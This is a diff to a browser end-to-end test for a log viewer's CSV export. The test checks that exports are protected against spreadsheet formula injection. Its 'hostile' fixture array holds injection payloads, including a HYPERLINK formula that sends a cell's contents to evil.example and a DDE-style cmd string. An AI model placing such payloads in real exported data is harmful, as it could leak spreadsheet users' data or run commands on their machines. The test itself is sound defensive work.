@@ -7,9 +7,20 @@ import { type DaemonProcess, daemonProcess } from '../daemon-process.ts';
 import { pairBrowser } from '../pages/companion-page.ts';
 import { type LogRoom, logRoom } from '../pages/log-room.ts';
 import { looksRight } from '../pages/looks-right.ts';
+import { csvLines } from '../../shared/transfer/csv-cells.ts';
+import { bareText } from '../../shared/transfer/shield.ts';
+import { logEntry } from '../store/examples.ts';
 import { fillLog } from '../store/fill-log.ts';
 
 const count = 30_000;
+/** As servers may answer. */
+const hostile = [
+  '=HYPERLINK("http://evil.example/?"&A1,"xyzzy")',
+  '@SUM(A1:A9) xyzzy',
+  '＝cmd|xyzzy',
+  'xyzzy "quoted", with a comma;\tand a tab',
+  "xyzzy ends here\r\n=1+1\n'-2",
+];
 
 describe.each([
   ['Chromium', openChromium],
@@ -21,7 +32,11 @@ describe.each([
   let log: LogRoom;
   beforeAll(async () => {
     [browser, daemon] = await Promise.all([open(), daemonProcess()]);
-    await fillLog(daemon, count);
+    await fillLog(
+      daemon,
+      count,
+      hostile.map((message) => logEntry(message)),
+    );
     page = await pairBrowser(browser, daemon);
     log = logRoom(page);
     await log.to('#/log');
@@ -31,6 +46,18 @@ describe.each([
     await browser[Symbol.asyncDispose]();
     await daemon[Symbol.asyncDispose]();
   });
+
+  /** What is saved from here on is the page's to show. */
+  async function keepsFiles(): Promise<void> {
+    await page.evaluate(`{
+      window.saved = [];
+      window.makeUrl ??= URL.createObjectURL.bind(URL);
+      URL.createObjectURL = (blob) => {
+        window.saved.push(blob.text());
+        return window.makeUrl(blob);
+      };
+    }`);
+  }
 
   it('are asked by quick filters, a search and the menu of a cell, and each can be taken away', async () => {
     await page.click('link', 'IMAP Auth');
@@ -185,11 +212,23 @@ describe.each([
     await page.press('Escape');
   });
 
+  it('are answered in a file that no spreadsheet runs, whatever a server said', async () => {
+    await keepsFiles();
+    await log.to('#/log?where=message+contains+xyzzy');
+    await log.crumbsBecome('Message contains “xyzzy”');
+    await page.click('button', 'Export');
+    await page.click('button', 'As CSV (spreadsheets)');
+    await page.sees(/5 records exported: mailprobe-log-.*\.csv/);
+    const csv = await page.evaluate<string>('window.saved[0]');
+    const rows = csvLines(csv, (cells) => cells.length, 99).map(({ cells }) => cells);
+    expect(rows.map((row) => row.length)).toEqual(Array.from({ length: hostile.length + 1 }, () => 9));
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    const messages = rows.slice(1).map((row) => bareText(row[4] ?? ''));
+    expect(messages.toReversed()).toEqual(hostile);
+  });
+
   it('are answered in a file, or stopped on the way', async () => {
-    await page.evaluate(`void (window.saved = [], URL.createObjectURL = ((make) => (blob) => {
-      window.saved.push(blob.text());
-      return make(blob);
-    })(URL.createObjectURL.bind(URL)))`);
+    await keepsFiles();
     await log.to('#/log?where=level+is+Error');
     await log.crumbsBecome('Level is Error');
     await page.click('button', 'Export');
